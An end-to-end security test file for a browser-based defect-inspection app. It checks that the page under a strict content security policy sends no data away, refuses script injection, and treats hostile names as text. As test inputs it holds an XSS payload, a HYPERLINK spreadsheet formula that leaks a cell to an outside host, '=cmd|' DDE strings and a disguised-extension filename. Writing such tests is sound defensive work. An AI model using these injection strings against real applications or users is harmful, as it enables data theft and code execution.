/**
 * A day's use of the built page, as a strict host serves it: photos, an evaluation, a model of one's own, a lesson, exports. All that
 * was requested meanwhile is looked at, and all that the page's policy refused.
 */
import { readFile } from 'node:fs/promises';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { CONTENT_SECURITY_POLICY, ISOLATION_HEADERS } from '../../workers/headers.js';
import { openOrigin, type Origin } from '../frameworks/origin.js';
import { buildZip } from '../unit/datasets/zip-builder.js';
import { defectRows, drop, photos, sample, untilKept, type NamedFile } from './files.js';
import { useStage } from './harness.js';
import { run, teachCaps, type Host } from './lessons.js';
import { ownModel } from './model-files.js';
import { expectPrivate } from './requests.js';

const stage = useStage();
let strict: Origin;

beforeAll(async () => {
  const headers = { ...ISOLATION_HEADERS, 'content-security-policy': CONTENT_SECURITY_POLICY };
  strict = await openOrigin({ folder: 'dist', headers });
});
afterAll(() => strict.close());

/** Runs in the page before its own scripts. */
function noteViolations(): void {
  const violations: string[] = [];
  Object.assign(globalThis, { violations });
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sourceFile }) =>
    violations.push(`${effectiveDirective}: ${blockedURI} (${sourceFile})`),
  );
}

const violationsOf = (page: Page): Promise<readonly string[]> =>
  page.evaluate(() => (globalThis as unknown as { violations: string[] }).violations);

async function saved(page: Page, click: () => Promise<unknown>): Promise<string> {
  const downloading = page.waitForEvent('download');
  await click();
  return readFile(await (await downloading).path(), 'utf8');
}

async function annotated(coco: string, names: readonly string[]): Promise<NamedFile> {
  const files = await Promise.all(names.map((name) => sample(name)));
  const zip = buildZip([
    { name: 'set/annotations.json', data: coco },
    ...files.map(({ name, buffer }) => ({ name: `set/${name}`, data: buffer, isStored: true })),
  ]);
  return { name: 'line-2.zip', mimeType: 'application/zip', buffer: Buffer.from(zip) };
}

test('in a day of work nothing is sent, nothing is foreign, and the policy has nothing to refuse', async () => {
  const { page, context, requests, errors } = await stage.open({
    url: strict.url,
    height: 1500,
    initScript: noteViolations,
  });
  const sockets: string[] = [];
  page.on('websocket', (socket) => sockets.push(socket.url()));
  await untilKept(page);

  // Photos: dropped, and dragged here from a page.
  const names = ['ball-screw-pitting.jpg', 'tile-cracks.jpg'];
  await drop(page, await Promise.all(names.map((name) => sample(name))));
  await photos(page).filter({ hasText: 'Done' }).nth(1).waitFor({ timeout: 60_000 });
  await page
    .getByText(/\d threads/)
    .first()
    .waitFor();
  await dragPicture(page, 'samples/strip-scratches.jpg');
  await photos(page).filter({ hasText: 'Done' }).nth(2).waitFor({ timeout: 60_000 });
  await page.getByRole('slider', { name: 'Confidence' }).focus();
  await page.keyboard.press('Home');

  // Exports.
  const entry = async (name: string) => {
    await page.locator('summary[title="Export"]').click();
    await page.getByRole('button', { name }).click();
  };
  const coco = await saved(page, () => entry('COCO, all photos'));
  expect(await saved(page, () => entry('CSV, all photos'))).toContain('pitting');
  expect(JSON.parse(await saved(page, () => entry('JSON, all photos')))).toBeTruthy();

  // An evaluation, and its report.
  await drop(page, [await annotated(coco, names)]);
  await page.getByRole('button', { name: /^Inspect \d+ photos$/ }).click();
  const report = page.getByRole('button', { name: 'Report JSON', exact: true });
  expect(await saved(page, () => report.click({ timeout: 60_000 }))).toContain('line-2.zip');
  await page.keyboard.press('Escape');

  // A model of one's own, kept.
  await drop(page, [await ownModel()]);
  await page.getByRole('button', { name: 'Remember it' }).click({ timeout: 60_000 });
  await page.getByRole('button', { name: 'Remember it' }).waitFor({ state: 'detached' });

  // A lesson: taught, kept, exported.
  await run(page, 'photos.clear');
  await teach(page);
  await run(page, 'lesson.save', { keep: 'photos' });
  await page.getByText('Saved on this device').first().waitFor({ timeout: 60_000 });
  const lesson = page.waitForEvent('download');
  await run(page, 'lesson.export');
  expect((await lesson).suggestedFilename()).toMatch(/\.zip$/);

  expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
  expectPrivate(requests, new URL(strict.url).origin);
  expect(requests.length).toBeGreaterThan(20);
  expect(sockets).toEqual([]);
  expect(await violationsOf(page)).toEqual([]);
  expect(errors).toEqual([]);
  expect(context.pages()).toHaveLength(1);
}, 480_000);

/** The good and the marked parts of the walk-through, learnt. */
async function teach(page: Page): Promise<void> {
  await teachCaps(page);
  await run(page, 'lesson.learn');
  const learning = () =>
    page.evaluate(
      () => document.querySelector<Host>('defect-inspector')!.workbench.state.teaching?.learning.kind,
    );
  await expect.poll(learning, { timeout: 240_000 }).toBe('learnt');
}

/** As a browser tells of a picture that is dragged from another page. */
async function dragPicture(page: Page, path: string): Promise<void> {
  const transfer = await page.evaluateHandle((src) => {
    const data = new DataTransfer();
    data.setData('text/html', `<meta charset="utf-8"><img src="${new URL(src, location.href).href}">`);
    return data;
  }, path);
  await page.locator('body').dispatchEvent('drop', { dataTransfer: transfer });
}

test('text that would become a script, or markup, is refused', async () => {
  const { page } = await stage.open({ url: strict.url, initScript: noteViolations });
  const refused = await page.evaluate(() => {
    const attempts: Record<string, () => unknown> = {
      'markup of an element': () =>
        (document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>'),
      'markup of a template': () => (document.createElement('template').innerHTML = '<p>'),
      'a worker': () => new Worker('assets/worker.js'),
      'a worker of a blob': () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))),
      'the address of a script': () => (document.createElement('script').src = 'https://example.com/x.js'),
      'the text of a script': () => (document.createElement('script').text = 'alert(1)'),
      'a service worker': () => navigator.serviceWorker.register('x.js'),
      'a policy of another name': () =>
        (
          globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
        ).trustedTypes.createPolicy('other', {}),
      'our policy once more': () =>
        (
          globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
        ).trustedTypes.createPolicy('defect-inspector', { createScriptURL: (url: string) => url }),
    };
    return Promise.all(
      Object.entries(attempts).map(async ([name, attempt]) => {
        try {
          await attempt();
          return `${name} passed`;
        } catch (error) {
          return error instanceof TypeError ? name : `${name}: ${String(error)}`;
        }
      }),
    );
  });
  expect(refused).toEqual([
    'markup of an element',
    'markup of a template',
    'a worker',
    'a worker of a blob',
    'the address of a script',
    'the text of a script',
    'a service worker',
    'a policy of another name',
    'our policy once more',
  ]);
  expect((await violationsOf(page)).length).toBeGreaterThanOrEqual(refused.length);
  // And a photo still shows its defects.
  await drop(page, [await sample()]);
  await defectRows(page).first().waitFor({ timeout: 60_000 });
});

const HOSTILE = {
  markup: '<img class=hostile src=x onerror=alert(1)>',
  formula: '=HYPERLINK("https://example.com/?"&A1)',
  reversed: 'a\u202Egpj.exe',
};

/** The cells of a table, none of which a spreadsheet may take for a formula: numbers may begin with a sign. */
function expectText(csv: string): void {
  const cells = [...csv.matchAll(/(?:^|[,;\r\n])(?:"((?:[^"]|"")*)"|([^",;\r\n]*))/g)].map(
    ([, quoted, plain]) => quoted ?? plain ?? '',
  );
  expect(cells.length).toBeGreaterThan(10);
  expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && Number.isNaN(Number(cell)))).toEqual([]);
}

test('hostile names of photos, classes, models and lessons are text everywhere', async () => {
  const { page, errors } = await stage.open({ url: strict.url, initScript: noteViolations });
  page.on('dialog', () => {
    throw new Error('A name has become a script.');
  });
  const { buffer, mimeType } = await sample();
  const named = (name: string, i: number): NamedFile => ({
    name: `${name}.jpg`,
    mimeType,
    buffer: Buffer.concat([buffer, Buffer.from([i])]),
  });
  await drop(page, Object.values(HOSTILE).map(named));
  await photos(page).filter({ hasText: 'Done' }).nth(2).waitFor({ timeout: 60_000 });
  expect(await photos(page).allTextContents()).toEqual(
    expect.arrayContaining([expect.stringContaining('<img class=hostile')]),
  );

  const exported = (format: string) =>
    page.evaluate(async (wanted) => {
      const element = document.querySelector('defect-inspector') as unknown as {
        export(format: string): Promise<Blob>;
      };
      return (await element.export(wanted)).text();
    }, format);
  expectText(await exported('csv'));

  // Annotations with such classes and files, and the report of them.
  const coco = JSON.parse(await exported('coco')) as {
    images: { file_name: string }[];
    categories: { name: string }[];
  };
  coco.images.forEach((image, i) => (image.file_name = `part-${i}.jpg`));
  coco.categories.forEach((category, i) => (category.name = `${Object.values(HOSTILE)[i % 3]!} ${i}`));
  const zip = buildZip([
    { name: 'set/annotations.json', data: JSON.stringify(coco) },
    ...coco.images.map(({ file_name }, i) => ({
      name: `set/${file_name}`,
      data: named('x', i).buffer,
      isStored: true,
    })),
  ]);
  await drop(page, [
    { name: '=cmd|<b class=hostile>.zip', mimeType: 'application/zip', buffer: Buffer.from(zip) },
  ]);
  await page.getByRole('button', { name: /^Inspect \d+ photos$/ }).click();
  const table = page.getByRole('button', { name: 'CSV', exact: true });
  const report = await saved(page, () => table.click({ timeout: 60_000 }));
  expect(report).toContain('=cmd|');
  expectText(report);
  await page.keyboard.press('Escape');

  // A model's own words, and a lesson's.
  await drop(page, [await ownModel('own.onnx', '<u>=cmd|x</u>.x')]);
  await page
    .getByRole('button', { name: 'Models' })
    .filter({ hasText: '<u>=cmd|x</u>.x' })
    .waitFor({ timeout: 60_000 });
  await run(page, 'lesson.start', { name: HOSTILE.markup });
  await run(page, 'lesson.add-class', { name: HOSTILE.formula });
  await page.locator('defect-lesson').getByText(HOSTILE.markup).waitFor();

  const made = await page.evaluate(() => {
    const elements = (root: ParentNode): Element[] =>
      Array.from(root.querySelectorAll('*')).flatMap((one) => [
        one,
        ...(one.shadowRoot ? elements(one.shadowRoot) : []),
      ]);
    return elements(document).filter((one) => one.matches('.hostile, script:not([src]), u')).length;
  });
  expect(made).toBe(0);
  expect(await violationsOf(page)).toEqual([]);
  expect(errors).toEqual([]);
});
